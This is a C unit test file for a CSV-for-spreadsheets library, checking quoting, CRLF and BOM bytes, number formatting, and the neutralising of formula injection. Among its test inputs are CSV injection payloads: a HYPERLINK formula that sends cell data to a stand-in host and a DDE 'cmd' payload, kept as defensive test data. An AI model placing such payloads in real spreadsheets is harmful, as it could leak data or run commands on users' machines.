/*
 * test_csv.c — CSV for spreadsheets (core/csv.h).
 *
 * The exact bytes of small files (byte order mark, CRLF, quoting, doubled
 * quotes), formula injection neutralised as OWASP's CSV Injection page
 * shows it (its two examples verbatim), numbers left as numbers, and a
 * file of awkward cells read back by a strict RFC 4180 reader written
 * here, cell for cell.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "csv.h"

#define BOM "\xEF\xBB\xBF"

static void
file_is(const struct csv *c, const char *want)
{
	size_t n = strlen(want);

	if (c->len != n || memcmp(c->data, want, n) != 0) {
		print_error("file is [%.*s], want [%s]\n", (int)c->len, c->data, want);
		fail();
	}
}

/* One text cell alone in a file: how it is written. */
static void
text_is(const char *s, const char *want)
{
	struct csv c = CSV_INIT;
	char full[256];

	csv_text(&c, s);
	csv_end_row(&c);
	snprintf(full, sizeof full, BOM "%s\r\n", want);
	file_is(&c, full);
	csv_free(&c);
}

static void
a_small_report(void **state)
{
	struct csv c = CSV_INIT;

	(void)state;
	csv_text(&c, "seat");
	csv_text(&c, "buyer");
	csv_text(&c, "price");
	csv_end_row(&c);
	csv_text(&c, "VIP A-1");
	csv_text(&c, "Kim, Min-jun");
	csv_int(&c, 165000);
	csv_end_row(&c);
	csv_text(&c, "R B-12");
	csv_text(&c, "");
	csv_decimal(&c, -13200, 2);
	csv_end_row(&c);
	file_is(&c, BOM "seat,buyer,price\r\n"
	    "VIP A-1,\"Kim, Min-jun\",165000\r\n"
	    "R B-12,,-132.00\r\n");
	csv_free(&c);
	assert_null(c.data);
	assert_int_equal(c.len, 0);
}

static void
quoting(void **state)
{
	(void)state;
	text_is("plain", "plain");
	text_is("a,b", "\"a,b\"");
	text_is("say \"hi\"", "\"say \"\"hi\"\"\"");
	text_is("\"", "\"\"\"\"");
	text_is("two\r\nlines", "\"two\r\nlines\"");
	text_is("line\nfeed", "\"line\nfeed\"");
	text_is("semi;colon", "\"semi;colon\"");
	text_is("tab\there", "\"tab\there\"");
	text_is("Café 東京 ₩", "Café 東京 ₩");
	text_is("it's", "it's");
}

static void
formulas_are_neutralised(void **state)
{
	(void)state;
	/* OWASP's two examples, input and escaped output verbatim. */
	text_is("=1+2\";=1+2", "\"'=1+2\"\";=1+2\"");
	text_is("=1+2'\" ;,=1+2", "\"'=1+2'\"\" ;,=1+2\"");
	text_is("=HYPERLINK(\"http://evil.example/?\"&A1)",
	    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
	text_is("+1", "\"'+1\"");
	text_is("-1", "\"'-1\"");
	text_is("@SUM(A1:A9)", "\"'@SUM(A1:A9)\"");
	text_is("\t=1", "\"'\t=1\"");
	text_is("\r=1", "\"'\r=1\"");
	text_is("\n=1", "\"'\n=1\"");
	text_is("=", "\"'=\"");
	/* Only the first character matters. */
	text_is("a=b", "a=b");
	text_is("1+1", "1+1");
	text_is("x@example.com", "x@example.com");
}

static void
numbers_stay_numbers(void **state)
{
	struct csv c = CSV_INIT;

	(void)state;
	csv_int(&c, -5000);
	csv_int(&c, 0);
	csv_int(&c, INT64_MAX);
	csv_int(&c, INT64_MIN);
	csv_end_row(&c);
	csv_decimal(&c, 123456, 2);
	csv_decimal(&c, -123456, 2);
	csv_decimal(&c, 5, 2);
	csv_decimal(&c, -5, 2);
	csv_decimal(&c, 0, 2);
	csv_decimal(&c, 7, 0);
	csv_decimal(&c, -1, 6);
	csv_decimal(&c, INT64_MIN, 2);
	csv_end_row(&c);
	file_is(&c, BOM "-5000,0,9223372036854775807,-9223372036854775808\r\n"
	    "1234.56,-1234.56,0.05,-0.05,0.00,7,-0.000001,-92233720368547758.08\r\n");
	csv_free(&c);
}

/*
 * A strict RFC 4180 reader: cells into cells[] (each malloc'd), rows
 * ended by CRLF only. Returns the number of cells in the first row, or -1
 * if the text breaks the grammar.
 */
static int
read_row(const char **p, const char *end, char **cells, int max)
{
	int n = 0;

	for (;;) {
		char *out;
		size_t o = 0;

		if (n == max)
			return -1;
		out = malloc((size_t)(end - *p) + 1);
		assert_non_null(out);
		if (*p < end && **p == '"') {
			(*p)++;
			for (;;) {
				if (*p >= end)
					return -1;
				if (**p == '"') {
					if (*p + 1 < end && (*p)[1] == '"') {
						out[o++] = '"';
						*p += 2;
						continue;
					}
					(*p)++;
					break;
				}
				out[o++] = *(*p)++;
			}
		} else {
			while (*p < end && **p != ',' && **p != '\r') {
				if (**p == '"' || **p == '\n')
					return -1;
				out[o++] = *(*p)++;
			}
		}
		out[o] = '\0';
		cells[n++] = out;
		if (*p < end && **p == ',') {
			(*p)++;
			continue;
		}
		if (*p + 1 < end && (*p)[0] == '\r' && (*p)[1] == '\n') {
			*p += 2;
			return n;
		}
		return -1;
	}
}

static void
awkward_cells_read_back(void **state)
{
	static const char *const row[] = { "", "plain", "a,b", "\"quoted\"",
	    "multi\r\nline", "lf\nonly", "=cmd|' /C calc'!A0", "-2", "@x",
	    " leading space", "trailing space ", ";", "\t", "' already" };
	static const char *const want[] = { "", "plain", "a,b", "\"quoted\"",
	    "multi\r\nline", "lf\nonly", "'=cmd|' /C calc'!A0", "'-2", "'@x",
	    " leading space", "trailing space ", ";", "'\t", "' already" };
	enum { N = sizeof row / sizeof row[0] };
	struct csv c = CSV_INIT;
	char *cells[N + 2];
	const char *p, *end;

	(void)state;
	for (int r = 0; r < 3; r++) {
		for (int i = 0; i < N; i++)
			csv_text(&c, row[i]);
		csv_int(&c, -r);
		csv_end_row(&c);
	}
	assert_true(c.len > 3 && memcmp(c.data, BOM, 3) == 0);
	p = c.data + 3;
	end = c.data + c.len;
	for (int r = 0; r < 3; r++) {
		assert_int_equal(read_row(&p, end, cells, N + 2), N + 1);
		for (int i = 0; i < N; i++) {
			assert_string_equal(cells[i], want[i]);
			free(cells[i]);
		}
		assert_int_equal(atoi(cells[N]), -r);
		free(cells[N]);
	}
	assert_ptr_equal(p, end);
	csv_free(&c);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_small_report),
		cmocka_unit_test(quoting),
		cmocka_unit_test(formulas_are_neutralised),
		cmocka_unit_test(numbers_stay_numbers),
		cmocka_unit_test(awkward_cells_read_back),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
